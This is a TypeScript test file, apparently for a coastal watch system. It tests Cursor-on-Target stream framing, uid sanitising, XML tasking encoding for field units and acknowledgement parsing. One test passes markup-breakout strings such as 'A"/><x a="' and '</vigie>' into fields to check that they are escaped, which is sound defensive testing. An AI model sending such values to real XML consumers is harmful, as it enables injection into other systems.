    for (let split = 0; split <= stream.length; split++) {
      const framer = new CotStreamFramer();
      const frames = [...framer.push(stream.subarray(0, split)), ...framer.push(stream.subarray(split))];
      assert.equal(frames.length, 2, `split at ${split}`);
      const types = frames.map((frame) => {
        assert.ok(Buffer.isBuffer(frame));
        const result = parseCotEvent(frame, site, receivedAt);
        return result.ok ? result.messages.map((m) => m.type).join('+') : result.reason;
      });
      assert.deepEqual(types, ['unit-position', 'track'], `split at ${split}`);
    }
  });
});

describe('cotId', () => {
  test('uids become valid, distinct ids', () => {
    assert.equal(cotId('ANDROID-U03'), 'ANDROID-U03');
    assert.equal(cotId('GeoChat.ANDROID-U03.All Chat Rooms'), 'GeoChat.ANDROID-U03.All_Chat_Rooms');
    assert.equal(cotId('{6c1f3a52}'), 'x_6c1f3a52_');
    assert.equal(cotId('.hidden'), 'x.hidden');
    const long1 = `S-1-5-21-3914823510-2217613450-1486043920-1001.${'x'.repeat(30)}.track-1`;
    const long2 = `S-1-5-21-3914823510-2217613450-1486043920-1001.${'x'.repeat(30)}.track-2`;
    const [id1, id2] = [cotId(long1), cotId(long2)];
    assert.notEqual(id1, id2);
    for (const id of [id1, id2]) assert.match(id, /^[A-Za-z0-9][A-Za-z0-9._:-]{0,63}$/);
    assert.equal(id1.length, 64);
  });

  test('a track with an awkward uid is still a valid message', () => {
    const track = one(parse(event({ uid: 'RAD-GRISNEZ.{track 17}/é' })), 'track');
    assert.equal(track.track, 'RAD-GRISNEZ._track_17___');
  });
});

describe('encodeCotTasking', () => {
  const tasking = {
    assignment: 'A-0042',
    unit: { uid: 'ANDROID-U12', callsign: 'PIETON 12' },
    incident: 'INC-2025-0714-007',
    lat: 50.8003,
    lon: 1.6085,
    status: 'assigned' as const,
    kind: 'group-on-beach',
    sector: 'WIMEREUX-N',
    remarks: 'Groupe ~40 pers. <plage> "nord" & bateaux\nRV parking',
    now: Date.parse('2025-07-14T21:40:00Z'),
  };

  test('a well-formed t-x-d event addressed to the unit', () => {
    const xml = encodeCotTasking(tasking);
    const root = parseXml(xml);
    assert.equal(root.name, 'event');
    assert.deepEqual(Object.fromEntries(root.attributeNames.map((name, i) => [name, root.attributeValues[i]])), {
      version: '2.0',
      uid: 'vigie-task-A-0042',
      type: 't-x-d',
      how: 'h-e',
      time: '2025-07-14T21:40:00.000Z',
      start: '2025-07-14T21:40:00.000Z',
      stale: '2025-07-14T22:40:00.000Z',
    });
    const point = child(root, 'point')!;
    assert.equal(attribute(point, 'lat'), '50.8003000');
    assert.equal(attribute(point, 'lon'), '1.6085000');
    assert.equal(attribute(point, 'ce'), '9999999.0');
    const detail = child(root, 'detail')!;
    assert.deepEqual(
      detail.children.map((c) => c.name),
      ['link', 'contact', 'vigie', 'remarks'],
    );
    const link = child(detail, 'link')!;
    assert.deepEqual([attribute(link, 'uid'), attribute(link, 'relation'), attribute(link, 'type')], ['ANDROID-U12', 'p-p', 'a-f-G']);
    assert.equal(attribute(child(detail, 'contact')!, 'callsign'), 'VIGIE');
    const vigie = child(detail, 'vigie')!;
    assert.deepEqual(
      ['assignment', 'incident', 'status', 'kind', 'sector'].map((name) => attribute(vigie, name)),
      ['A-0042', 'INC-2025-0714-007', 'assigned', 'group-on-beach', 'WIMEREUX-N'],
    );
    assert.equal(child(detail, 'remarks')!.text, tasking.remarks);
  });

  test('everything is escaped; optional parts are left out', () => {
    const nasty = encodeCotTasking({
      ...tasking,
      assignment: 'A"/><x a="',
      unit: { uid: "U'1&<", callsign: 'c' },
      sector: '</vigie>',
      kind: undefined,
      remarks: undefined,
      status: 'cancelled',
      staleSeconds: 60,
    });
    const root = parseXml(nasty);
    assert.equal(attribute(root, 'uid'), 'vigie-task-A"/><x a="');
    assert.equal(attribute(root, 'stale'), '2025-07-14T21:41:00.000Z');
    const detail = child(root, 'detail')!;
    assert.equal(attribute(child(detail, 'link')!, 'uid'), "U'1&<");
    const vigie = child(detail, 'vigie')!;
    assert.equal(attribute(vigie, 'sector'), '</vigie>');
    assert.equal(attribute(vigie, 'kind'), undefined);
    assert.equal(attribute(vigie, 'status'), 'cancelled');
    assert.equal(child(detail, 'remarks'), undefined);
  });

  test('refuses a position that is not one', () => {
    assert.throws(() => encodeCotTasking({ ...tasking, lat: 91 }), RangeError);
    assert.throws(() => encodeCotTasking({ ...tasking, lon: Number.NaN }), RangeError);
    assert.throws(() => encodeCotTasking({ ...tasking, staleSeconds: 0 }), RangeError);
  });

  test('xmlEscape', () => {
    assert.equal(xmlEscape(`a<b>c&d"e'f`), 'a&lt;b&gt;c&amp;d&quot;e&apos;f');
    assert.equal(xmlEscape('l1\nl2\tx\r'), 'l1&#10;l2&#9;x&#13;');
    assert.equal(xmlEscape('bell\u0007 and \ud800 alone'), 'bell\ufffd and \ufffd alone');
    assert.equal(xmlEscape('Équihen 😀'), 'Équihen 😀');
  });

  test('a unit terminal reply built from the tasking acknowledges it', () => {
    const reply = event(
      { uid: 'ANDROID-U12.reply', type: 'y-a-r', how: 'h-e' },
      `${POINT}<detail><link uid="ANDROID-U12" relation="p-p"/><vigie status="en-route" assignment="${tasking.assignment}"/></detail>`,
    );
    assert.deepEqual(one(parse(reply), 'unit-ack'), {
      type: 'unit-ack',
      unit: 'U12',
      status: 'en-route',
      assignment: 'A-0042',
      time: Date.parse('2025-07-14T21:30:00Z'),
    });
  });
});
